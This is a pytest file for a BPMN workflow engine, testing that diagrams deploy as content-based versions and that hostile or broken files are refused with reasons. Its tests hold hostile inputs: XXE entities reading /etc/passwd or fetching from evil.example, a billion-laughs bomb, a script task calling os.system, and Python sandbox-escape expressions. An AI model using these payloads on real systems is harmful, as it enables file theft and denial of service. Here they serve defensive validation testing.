"""Deploying diagrams: versions by content, and hostile or broken files refused with reasons."""

from __future__ import annotations

import re
import time

import pytest
from sqlalchemy import func, select

from engine import DefinitionInvalid, Engine
from engine.definitions import MAX_BYTES, load_definition
from engine.store.models import Definition, Instance

from ..conftest import PTSP_BPMN
from ..helpers import Application

XML = PTSP_BPMN.read_text(encoding="utf-8")


def mutate(old: str, new: str, count: int = 1, text: str = XML) -> bytes:
    assert old in text, old
    return text.replace(old, new, count).encode("utf-8")


def problems(data: bytes) -> list:
    with pytest.raises(DefinitionInvalid) as info:
        load_definition(data)
    return info.value.problems


def definitions_count(engine: Engine) -> int:
    with engine.db.reader() as session:
        return session.execute(select(func.count()).select_from(Definition)).scalar_one()


def refused_deploy(engine: Engine, data: bytes, pattern: str) -> DefinitionInvalid:
    before = definitions_count(engine)
    with pytest.raises(DefinitionInvalid) as info:
        engine.deploy(data)
    assert any(re.search(pattern, str(p)) for p in info.value.problems), [str(p) for p in info.value.problems]
    assert definitions_count(engine) == before
    return info.value


# ------------------------------------------------------------------ versions
def test_identical_content_returns_the_existing_version(engine: Engine, ptsp_xml: bytes) -> None:
    again = engine.deploy(ptsp_xml)
    assert (again.version, again.created) == (1, False)
    assert definitions_count(engine) == 1


def test_new_content_is_a_new_version_and_instances_keep_theirs(engine: Engine) -> None:
    old_app = Application(engine)
    changed = mutate(
        '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT15M</bpmn:timeDuration>',
        '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT20M</bpmn:timeDuration>',
    )
    deployed = engine.deploy(changed, deployed_by="pemilik", note="Langkah 1 menjadi 20 menit")
    assert (deployed.process, deployed.version, deployed.created, deployed.active) == ("ptsp", 2, True, False)
    # deployed is not yet in service: new applications still start on version 1
    assert engine.show(Application(engine).id).version == 1
    engine.activate(2, recorded_by="pemilik", note="Langkah 1 menjadi 20 menit")
    new_app = Application(engine)
    assert engine.show(old_app.id).version == 1
    assert engine.show(new_app.id).version == 2
    old_due = old_app.current().due_at - old_app.current().ready_at
    new_due = new_app.current().due_at - new_app.current().ready_at
    assert (old_due.total_seconds(), new_due.total_seconds()) == (15 * 60, 20 * 60)
    old_app.do(1)  # the old instance runs on its own version
    assert engine.show(old_app.id).version == 1


def test_a_version_is_parsed_once(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    from engine.services import context

    calls = []
    original = context.compile_definition
    monkeypatch.setattr(context, "compile_definition", lambda *a: calls.append(a) or original(*a))
    engine.ctx.definitions._compiled.clear()
    for applicant in ("warga", "warga2", "warga"):
        Application(engine, applicant).do(1)
    assert len(calls) == 1


def test_the_stored_file_is_the_uploaded_bytes(engine: Engine, ptsp_xml: bytes) -> None:
    with engine.db.reader() as session:
        row = session.execute(select(Definition)).scalar_one()
        assert row.bpmn == ptsp_xml
        assert row.deployed_by == "tests"
        instance_count = session.execute(select(func.count()).select_from(Instance)).scalar_one()
    assert instance_count == 0


def test_dry_run_validation_stores_nothing(engine: Engine, ptsp_xml: bytes) -> None:
    engine.validate(ptsp_xml)
    with pytest.raises(DefinitionInvalid):
        engine.validate(b"<nope/>")
    assert definitions_count(engine) == 1


# ------------------------------------------------------------- hostile files
def test_malformed_xml(engine: Engine) -> None:
    error = refused_deploy(engine, XML[:5000].encode(), r"not well-formed XML")
    assert error.problems[0].line is not None


def test_xxe_payload(engine: Engine) -> None:
    payload = '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + XML.split("\n", 1)[
        1
    ].replace('name="SOP Pelayanan Terpadu Satu Pintu"', 'name="&xxe;"')
    refused_deploy(engine, payload.encode(), r"DOCTYPE and ENTITY declarations are not allowed")


def test_billion_laughs(engine: Engine) -> None:
    lols = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    payload = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{lols}]><d>&l9;</d>'
    started = time.perf_counter()
    refused_deploy(engine, payload.encode(), r"DOCTYPE and ENTITY")
    assert time.perf_counter() - started < 2


def test_entity_smuggled_in_another_encoding_is_refused() -> None:
    payload = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'.encode("utf-16")
    assert any("DOCTYPE" in p.message or "XML" in p.message for p in problems(payload))


def test_oversized_file(engine: Engine) -> None:
    refused_deploy(engine, b" " * (MAX_BYTES + 1), r"limit is")


def test_script_task(engine: Engine) -> None:
    data = mutate(
        '<bpmn:exclusiveGateway id="Gateway_GabungPenyerahanBerkas">',
        '<bpmn:scriptTask id="Skrip" name="Jalankan"><bpmn:script>import os; os.system("id")</bpmn:script>'
        '</bpmn:scriptTask>\n    <bpmn:exclusiveGateway id="Gateway_GabungPenyerahanBerkas">',
    )
    error = refused_deploy(engine, data, r"script tasks are not allowed")
    assert any(p.element and "Skrip" in p.element for p in error.problems)


def test_start_id_collides_with_engine_internals(engine: Engine) -> None:
    data = XML.replace("Mulai_PemohonDatang", "Start").encode()
    error = refused_deploy(engine, data, r"the id 'Start' is reserved")
    assert any(p.line for p in error.problems)


def test_end_and_dotted_ids_are_reserved() -> None:
    found = problems(
        XML.replace("Selesai_ProdukDiterima", "End")
        .replace("Gateway_GabungPenyerahanBerkas", "Gateway.Gabung")
        .encode()
    )
    messages = " | ".join(map(str, found))
    assert "'End' is reserved" in messages and "'Gateway.Gabung' contains '.'" in messages


# ----------------------------------------------------------- semantic checks
@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('name="Kasubag"', 'name="Sekretariat"', r"unknown lane 'Sekretariat'"),
        (
            "<bpmn:flowNodeRef>Langkah1_MenanyakanPelayanan</bpmn:flowNodeRef>",
            "",
            r"Langkah1_MenanyakanPelayanan.*not in any lane",
        ),
        (">PT10M<", ">PT1D<", r"'PT1D' is not an ISO 8601 duration"),
        (">PT10M<", ">${batas +}<", r"timer expression cannot be read: invalid expression"),
        ("${berkas_lengkap}", "${berkas_sudah_lengkap}", r"refers to 'berkas_sudah_lengkap'"),
        ("${!berkas_lengkap}", "${berkas_lengkap ==}", r"condition is not a plain expression"),
        ("${!berkas_lengkap}", "${__import__('os').system('id')}", r"function calls are not allowed"),
        ('isExecutable="true"', 'isExecutable="false"', r"no executable process"),
        (
            '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT10M</bpmn:timeDuration>',
            '<bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R3/PT10M</bpmn:timeCycle>',
            r"timer cycles are not",
        ),
        (
            "<camunda:formData>",
            '<camunda:executionListener class="org.Evil" event="start" />\n<camunda:formData>',
            r"camunda:executionListener is not supported",
        ),
        (
            '<bpmndi:BPMNShape id="Langkah1_MenanyakanPelayanan_di" bpmnElement="Langkah1_MenanyakanPelayanan">',
            '<bpmndi:BPMNShape id="X_di" bpmnElement="Pool_KantorKemenagJaksel">',
            r"missing DI",
        ),
        ('type="boolean"', 'type="money"', r"unsupported type 'money'"),
        (
            '<camunda:property name="sop_step" value="1" />',
            '<camunda:property name="sop_step" value="satu" />',
            r"sop_step must be a whole number",
        ),
        (
            '<bpmn:sequenceFlow id="Flow_BerkasLengkap" name="Lengkap" sourceRef="Gateway_BerkasLengkap" '
            'targetRef="Langkah5_DisposisiKepalaKantor">\n      '
            '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">'
            "${berkas_lengkap}</bpmn:conditionExpression>\n    </bpmn:sequenceFlow>",
            '<bpmn:sequenceFlow id="Flow_BerkasLengkap" name="Lengkap" sourceRef="Gateway_BerkasLengkap" '
            'targetRef="Langkah5_DisposisiKepalaKantor" />',
            r"needs a condition on every outgoing flow",
        ),
    ],
)
def test_broken_diagrams_are_refused_with_the_reason(old: str, new: str, expected: str) -> None:
    found = problems(mutate(old, new))
    assert any(re.search(expected, str(p)) for p in found), [str(p) for p in found]
    assert all(p.message for p in found)


def test_every_problem_is_reported_at_once_with_lines() -> None:
    data = mutate(
        'name="Kasubag"',
        'name="Sekretariat"',
        text=XML.replace(">PT10M<", ">10 menit<").replace("${berkas_lengkap}", "${lengkap}"),
    )
    found = problems(data)
    text = " | ".join(map(str, found))
    assert "unknown lane 'Sekretariat'" in text
    assert "'10 menit' is not an ISO 8601 duration" in text
    assert "refers to 'lengkap'" in text
    assert all(p.line for p in found)


def test_xsd_violations_are_located() -> None:
    found = problems(mutate('<bpmn:laneSet id="LaneSet_PTSP">', '<bpmn:laneSet id="LaneSet_PTSP" bogus="1">'))
    assert found[0].line and "schema" in found[0].message
    assert found[0].element == "LaneSet_PTSP"


# ------------------------------------------------------------ found in review
@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            '<camunda:constraint name="maxlength" config="2000" />',
            '<camunda:constraint name="maxlength" config="inf" />',
            r"must be a finite number",
        ),
        (
            '<camunda:constraint name="maxlength" config="2000" />',
            '<camunda:constraint name="maxlength" config="12.5" />',
            r"whole number of characters",
        ),
        (">PT10M<", ">P99999999999Y<", r"longer than 100 years"),
        (">PT10M<", ">PT99999999999999H<", r"longer than 100 years|not a usable"),
        (
            '<camunda:property name="sop_step" value="1" />',
            '<camunda:property name="sop_step" value="²" />',
            r"sop_step must be a whole number",
        ),
        (
            '<bpmn:dataObject id="draft_produk" name="Draft Produk" />',
            '<bpmn:dataObject name="Draft Produk" />',
            r"dataObject has no id",
        ),
        ("${!berkas_lengkap}", "${" + "+".join(["email"] * 200) + "}", r"too complex"),
        ("<bpmn:flowNodeRef>Mulai_PemohonDatang</bpmn:flowNodeRef>", "", r"start event must be in the Pemohon lane"),
    ],
)
def test_review_findings_are_refused_at_deploy(old: str, new: str, expected: str) -> None:
    found = problems(mutate(old, new))
    assert any(re.search(expected, str(p)) for p in found), [str(p) for p in found]


def test_a_plain_task_is_refused() -> None:
    element = re.search(r'<bpmn:userTask id="Langkah2_MenjelaskanJenisStandarLayanan".*?</bpmn:userTask>', XML, re.S)
    plain = element.group(0).replace("<bpmn:userTask", "<bpmn:task").replace("</bpmn:userTask>", "</bpmn:task>")
    found = problems(XML.replace(element.group(0), plain).encode())
    assert any("a plain task is done by nobody" in str(p) for p in found), [str(p) for p in found]


def test_multi_instance_tasks_are_refused() -> None:
    loop = (
        '<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality xsi:type="bpmn:tFormalExpression">'
        "${jumlah_berkas}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"
    )
    element = re.search(r'<bpmn:userTask id="Langkah5_DisposisiKepalaKantor".*?</bpmn:userTask>', XML, re.S).group(0)
    looped = element.replace("</bpmn:userTask>", loop + "</bpmn:userTask>")
    found = problems(XML.replace(element, looped).encode())
    assert any("multi-instance tasks are not supported" in str(p) for p in found), [str(p) for p in found]


def test_a_condition_may_use_a_start_form_field() -> None:
    data = mutate(
        "untuk menanyakan layanan.</bpmn:documentation>",
        "untuk menanyakan layanan.</bpmn:documentation><bpmn:extensionElements>"
        '<camunda:formData><camunda:formField id="mendesak" label="Mendesak" type="boolean" /></camunda:formData>'
        "</bpmn:extensionElements>",
        text=XML.replace("${!berkas_lengkap}", "${!berkas_lengkap || mendesak}"),
    )
    model = load_definition(data).model
    assert model.start_form.field("mendesak").type == "boolean"


def test_a_bad_date_timer_from_form_data_is_refused_cleanly_at_run_time(engine: Engine) -> None:
    from engine.runtime import ProcessError

    from ..helpers import fingerprint, valid_data

    step2_timer = '<bpmn:timerEventDefinition id="TimerDef_Langkah2_MenjelaskanJenisStandarLayanan">'
    data = mutate(
        step2_timer + '\n        <bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT15M</bpmn:timeDuration>',
        step2_timer + '<bpmn:timeDate xsi:type="bpmn:tFormalExpression">${nama_pemohon}</bpmn:timeDate>',
    )
    engine.deploy(data, activate=True)
    app = Application(engine)
    task = app.current()
    before = fingerprint(engine)
    with pytest.raises(ProcessError, match="timer cannot be set"):
        engine.complete(task.id, as_user="warga", data=valid_data(engine, task.id))
    assert fingerprint(engine) == before


# ------------------------------------------------- hostile expressions and XML
HOSTILE_EXPRESSIONS = [
    ("__import__('os').system('id')", r"function calls are not allowed"),
    ("().__class__.__bases__", r"unexpected '\)'"),
    ("berkas_lengkap.__class__.__bases__[0].__subclasses__()", r"function calls are not allowed"),
    ("lambda: berkas_lengkap", r"unexpected ':'"),
    ("(lambda x: x)(1)", r"expected '\)'"),
    ("[c for c in ().__class__.__base__.__subclasses__()]", r"unexpected"),
    ("{k: v for k, v in berkas_lengkap}", r"unexpected character"),
    ("9**9**9", r"unexpected '\*'"),
    ("(" * 100 + "berkas_lengkap" + ")" * 100, r"nested too deeply"),
    ("!" * 100 + "berkas_lengkap", r"nested too deeply"),
    ("berkas_lengkap" + ".a" * 400, r"too complex"),
]


@pytest.mark.parametrize(("expression", "expected"), HOSTILE_EXPRESSIONS, ids=[e[:30] for e, _ in HOSTILE_EXPRESSIONS])
def test_a_hostile_condition_is_refused_at_deploy(engine: Engine, expression: str, expected: str) -> None:
    error = refused_deploy(engine, mutate("${!berkas_lengkap}", "${" + expression + "}"), r"condition is not a plain")
    found = [p for p in error.problems if "condition" in p.message]
    assert re.search(expected, found[0].message), found[0].message
    assert (found[0].element, found[0].name) == ("Flow_BerkasBelumLengkap", "Belum lengkap")


@pytest.mark.parametrize(("expression", "expected"), HOSTILE_EXPRESSIONS, ids=[e[:30] for e, _ in HOSTILE_EXPRESSIONS])
def test_a_hostile_timer_expression_is_refused_at_deploy(engine: Engine, expression: str, expected: str) -> None:
    error = refused_deploy(engine, mutate(">PT10M<", ">${" + expression + "}<"), r"timer expression")
    found = [p for p in error.problems if "timer expression" in p.message]
    assert re.search(expected, found[0].message), found[0].message
    assert found[0].element.startswith("BatasWaktu_Langkah9_MenerimaProdukLayanan")


def test_parameter_entities_are_refused(engine: Engine) -> None:
    payload = (
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>\n'
        + XML.split("\n", 1)[1]
    )
    refused_deploy(engine, payload.encode(), r"DOCTYPE and ENTITY declarations are not allowed")


def test_an_external_entity_without_a_doctype_keyword_in_ascii_is_refused() -> None:
    # the DOCTYPE check looks at bytes: a UTF-16 file hides it from a naive search, not from the parser
    payload = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<d>&x;</d>'
    ).encode("utf-16")
    found = problems(payload)
    assert all("passwd" not in p.message or "root:" not in p.message for p in found)
    assert any("DOCTYPE" in p.message or "XML" in p.message for p in found)


def test_very_deep_xml_nesting_is_refused_quickly(engine: Engine) -> None:
    deep = XML.replace(
        "<bpmn:documentation>Peringatan", "<bpmn:documentation>" + "<a>" * 5000 + "</a>" * 5000 + "Peringatan", 1
    )
    started = time.perf_counter()
    refused_deploy(engine, deep.encode(), r"not well-formed XML: Excessive depth")
    assert time.perf_counter() - started < 2


# ------------------------------------------------ found by tests/engine/test_deploy_fuzz.py
# Each of these crashed (an exception other than DefinitionInvalid), hung, stored a diagram that
# could not run, or was refused only by SpiffWorkflow with a message naming no element.
CONDITIONAL_FLOW = '<bpmn:sequenceFlow id="Flow_BerkasBelumLengkap" name="Belum lengkap" '


def test_a_conditional_flow_without_an_id_is_a_problem_not_an_index_error(engine: Engine) -> None:
    error = refused_deploy(engine, mutate(CONDITIONAL_FLOW, '<bpmn:sequenceFlow name="Belum lengkap" '), r"no id")
    line = XML[: XML.index(CONDITIONAL_FLOW)].count("\n") + 1
    assert any(p.line == line for p in error.problems)


def test_a_process_without_an_id_is_refused_not_a_database_conflict(engine: Engine) -> None:
    data = mutate('<bpmn:process id="ptsp" ', "<bpmn:process ")
    refused_deploy(engine, data.replace(b'processRef="ptsp" ', b""), r"the executable process has no id")


def test_a_user_task_looping_on_itself_is_refused_not_a_recursion_error(engine: Engine) -> None:
    data = mutate(
        'id="Flow_Langkah5_Langkah6" sourceRef="Langkah5_DisposisiKepalaKantor" targetRef="Langkah6_DisposisiKasubag"',
        'id="Flow_Langkah5_Langkah6" sourceRef="Langkah5_DisposisiKepalaKantor" '
        'targetRef="Langkah5_DisposisiKepalaKantor"',
    )
    error = refused_deploy(engine, data, r"loop through Langkah5_DisposisiKepalaKantor has no exclusive or inclusive")
    assert error.problems[0].element.startswith("Langkah5_DisposisiKepalaKantor")


def test_a_loop_of_gateways_is_refused_not_run_forever(engine: Engine) -> None:
    data = mutate(
        'sourceRef="Gateway_GabungPenyerahanBerkas" targetRef="Langkah4_MemeriksaKelengkapanBerkas"',
        'sourceRef="Gateway_GabungPenyerahanBerkas" targetRef="Gateway_GabungPenyerahanBerkas"',
    )
    started = time.perf_counter()
    refused_deploy(engine, data, r"loop through Gateway_GabungPenyerahanBerkas passes no user task")
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("duration", ["PT0S", "PT15M"])
@pytest.mark.parametrize("cancel", ["false", "true"])
def test_a_boundary_timer_leading_back_to_its_task_is_refused(engine: Engine, duration: str, cancel: str) -> None:
    # PT0S fired again at once: a hang (non-interrupting) or a RecursionError (interrupting)
    breach = (
        'sourceRef="BatasWaktu_Langkah5_DisposisiKepalaKantor" targetRef="Terlambat_Langkah5_DisposisiKepalaKantor"'
    )
    text = XML.replace(breach, breach.replace("Terlambat_", ""))
    timer = text.index('id="BatasWaktu_Langkah5_DisposisiKepalaKantor"')
    text = text[:timer] + text[timer:].replace("PT15M", duration, 1).replace('cancelActivity="false"', "", 1)
    text = text.replace(
        '<bpmn:boundaryEvent id="BatasWaktu_Langkah5',
        f'<bpmn:boundaryEvent cancelActivity="{cancel}" id="BatasWaktu_Langkah5',
        1,
    )
    started = time.perf_counter()
    error = refused_deploy(
        engine,
        text.encode(),
        r"loop through BatasWaktu_Langkah5_DisposisiKepalaKantor passes no "
        r"user task that waits for a person",
    )
    assert error.problems[0].element.startswith("BatasWaktu_Langkah5_DisposisiKepalaKantor")
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    "target",
    [
        "Gateway_BerkasLengkap",
        "Mulai_PemohonDatang",
        "Selesai_ProdukDiterima",
        "BatasWaktu_Langkah5_DisposisiKepalaKantor",  # was AttributeError inside SpiffWorkflow
        "BatasWaktu_Langkah4_MemeriksaKelengkapanBerkas",
        "Flow_Langkah2_Langkah3",
    ],
)
def test_a_boundary_timer_must_watch_a_user_task(engine: Engine, target: str) -> None:
    attached = 'attachedToRef="Langkah4_MemeriksaKelengkapanBerkas"'
    error = refused_deploy(
        engine, mutate(attached, f'attachedToRef="{target}"'), rf"must be attached to a user task.*'{target}'"
    )
    assert error.problems[0].element.startswith("BatasWaktu_Langkah4_MemeriksaKelengkapanBerkas")


@pytest.mark.parametrize(
    "target", ["Ref_DokumenPermohonan_1", "ptsp", "Lane_Kasi", "Flow_Mulai_Langkah1", "Langkah6_DisposisiKasubag_di"]
)
def test_a_sequence_flow_connects_flow_nodes(engine: Engine, target: str) -> None:
    flow = 'sourceRef="Langkah2_MenjelaskanJenisStandarLayanan" targetRef="Langkah3_MenyerahkanBerkasPermohonan"'
    error = refused_deploy(
        engine,
        mutate(flow, f'sourceRef="Langkah2_MenjelaskanJenisStandarLayanan" targetRef="{target}"'),
        rf"the flow's target '{target}' is not a task, event or gateway",
    )
    assert error.problems[0].element == "Flow_Langkah2_Langkah3"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "<bpmn:sourceRef>Ref_DokumenPermohonan_1</bpmn:sourceRef>",
            "<bpmn:sourceRef>Langkah5_DisposisiKepalaKantor</bpmn:sourceRef>",
            r"reads 'Langkah5_DisposisiKepalaKantor', which is not a data object reference",
        ),
        (
            "<bpmn:targetRef>Ref_DokumenPermohonan_1</bpmn:targetRef>",
            "<bpmn:targetRef>Langkah5_DisposisiKepalaKantor</bpmn:targetRef>",
            r"writes 'Langkah5_DisposisiKepalaKantor', which is not a data object reference",
        ),
    ],
)
def test_data_associations_name_data_object_references(engine: Engine, old: str, new: str, expected: str) -> None:
    error = refused_deploy(engine, mutate(old, new), expected)
    assert all(p.element for p in error.problems)
    assert "0x" not in str(error)  # SpiffWorkflow's message printed an element's memory address


def test_a_user_task_has_one_outgoing_flow(engine: Engine) -> None:
    data = mutate(
        'sourceRef="BatasWaktu_Langkah4_MemeriksaKelengkapanBerkas"', 'sourceRef="Langkah4_MemeriksaKelengkapanBerkas"'
    )
    refused_deploy(engine, data, r"Langkah4_MemeriksaKelengkapanBerkas.*only one outgoing flow, not 2")


def test_a_default_flow_leaves_its_gateway(engine: Engine) -> None:
    data = mutate(
        '<bpmn:exclusiveGateway id="Gateway_BerkasLengkap"',
        '<bpmn:exclusiveGateway default="Flow_Mulai_Langkah1" id="Gateway_BerkasLengkap"',
    )
    refused_deploy(engine, data, r"Gateway_BerkasLengkap.*default flow 'Flow_Mulai_Langkah1' is not an outgoing")


def test_an_intermediate_catch_event_must_be_a_timer(engine: Engine) -> None:
    end = (
        '<bpmn:endEvent id="Terlambat_Langkah1_MenanyakanPelayanan" name="Batas waktu terlampaui">\n'
        "      <bpmn:incoming>Flow_Terlambat_Langkah1_MenanyakanPelayanan</bpmn:incoming>\n"
        "    </bpmn:endEvent>"
    )
    catch = end.replace("bpmn:endEvent", "bpmn:intermediateCatchEvent")
    refused_deploy(engine, mutate(end, catch), r"intermediate catch event must be a timer")


HIDDEN_FLOW = (
    '<bpmn:sequenceFlow id="Tersembunyi" sourceRef="Gateway_BerkasLengkap" targetRef="Selesai_ProdukDiterima"/>'
)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "untuk menanyakan layanan.</bpmn:documentation>",
            f"untuk menanyakan layanan.{HIDDEN_FLOW}</bpmn:documentation>",
            r"Mulai_PemohonDatang.*bpmn:documentation must be plain text",
        ),
        ("<camunda:formData>", f"<camunda:formData>{HIDDEN_FLOW}", r"bpmn:sequenceFlow inside camunda:formData"),
        (
            '<camunda:property name="sop_step" value="1" />',
            f'<camunda:property name="sop_step" value="1" />{HIDDEN_FLOW}',
            r"bpmn:sequenceFlow inside camunda:properties",
        ),
    ],
)
def test_no_flow_hides_where_the_checks_do_not_look(engine: Engine, old: str, new: str, expected: str) -> None:
    # SpiffWorkflow indexes every element with an id anywhere in the process
    refused_deploy(engine, mutate(old, new), expected)


def _chain(tasks: int) -> bytes:
    """A lane, a start event, ``tasks`` user tasks in a row and an end event, with DI."""
    ids = ["S", *(f"T{i}" for i in range(tasks)), "E"]
    nodes, flows, shapes, edges = [], [], [], []
    for i, ident in enumerate(ids):
        kind = "startEvent" if i == 0 else "endEvent" if ident == "E" else "userTask"
        nodes.append(f'<bpmn:{kind} id="{ident}" name="{ident}" />')
        shapes.append(
            f'<bpmndi:BPMNShape id="{ident}_di" bpmnElement="{ident}"><dc:Bounds x="{i * 150}" y="0" '
            'width="100" height="80" /></bpmndi:BPMNShape>'
        )
        if ident != "E":
            flows.append(f'<bpmn:sequenceFlow id="F{i}" sourceRef="{ident}" targetRef="{ids[i + 1]}" />')
            edges.append(
                f'<bpmndi:BPMNEdge id="F{i}_di" bpmnElement="F{i}"><di:waypoint x="{i * 150 + 100}" '
                f'y="40" /><di:waypoint x="{i * 150 + 150}" y="40" /></bpmndi:BPMNEdge>'
            )
    refs = "".join(f"<bpmn:flowNodeRef>{i}</bpmn:flowNodeRef>" for i in ids)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
  xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
  xmlns:di="http://www.omg.org/spec/DD/20100524/DI" id="D" targetNamespace="urn:ptsp">
<bpmn:collaboration id="C"><bpmn:participant id="P" processRef="rantai" /></bpmn:collaboration>
<bpmn:process id="rantai" isExecutable="true"><bpmn:laneSet id="LS"><bpmn:lane id="L" name="Pemohon">{refs}
</bpmn:lane></bpmn:laneSet>{"".join(nodes)}{"".join(flows)}</bpmn:process>
<bpmndi:BPMNDiagram id="DG"><bpmndi:BPMNPlane id="PL" bpmnElement="C"><bpmndi:BPMNShape id="L_di" bpmnElement="L">
<dc:Bounds x="0" y="0" width="10" height="10" /></bpmndi:BPMNShape>{"".join(shapes)}{"".join(edges)}
</bpmndi:BPMNPlane></bpmndi:BPMNDiagram></bpmn:definitions>""".encode()


def test_a_process_is_bounded_in_size_so_the_workflow_engine_never_runs_out_of_stack(engine: Engine) -> None:
    assert load_definition(_chain(20)).model.process_id == "rantai"
    # 1000 tasks in a row took SpiffWorkflow's recursive parser past Python's stack
    refused_deploy(engine, _chain(1000), r"1002 events, tasks and gateways; the limit is 300")


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('id="Langkah5_DisposisiKepalaKantor"', f'id="{"L" * 201}"', r"an id is 201 characters long; the limit is 200"),
        (
            'name="Mendisposisikan kepada Kasubag untuk Ditindaklanjuti"',
            f'name="{"n" * 401}"',
            r"a name is 401 characters long; the limit is 400",
        ),
    ],
)
def test_ids_and_names_fit_the_columns_that_keep_them(old: str, new: str, expected: str) -> None:
    # SQLite stores any length; PostgreSQL refused the insert with an error no caller expected
    found = problems(mutate(old, new))
    assert any(re.search(expected, str(p)) for p in found), [str(p) for p in found]


def test_the_service_field_is_a_short_enum() -> None:
    found = problems(
        mutate(
            'id="jenis_layanan" label="Jenis layanan" type="enum"',
            'id="jenis_layanan" label="Jenis layanan" type="string"',
        )
    )
    assert any("names the service applied for" in str(p) for p in found), [str(p) for p in found]


def test_an_xsd_problem_names_the_nearest_element_with_an_id() -> None:
    found = problems(
        mutate(
            "<bpmn:flowNodeRef>Mulai_PemohonDatang</bpmn:flowNodeRef>",
            '<bpmn:flowNodeRef bogus="1">Mulai_PemohonDatang</bpmn:flowNodeRef>',
        )
    )
    # the flowNodeRef has no id: the process owner finds it through its lane, and the schema's words name it
    assert (found[0].element, found[0].name) == ("Lane_Pemohon", "Pemohon"), found[0]
    assert "bpmn:flowNodeRef" in found[0].message
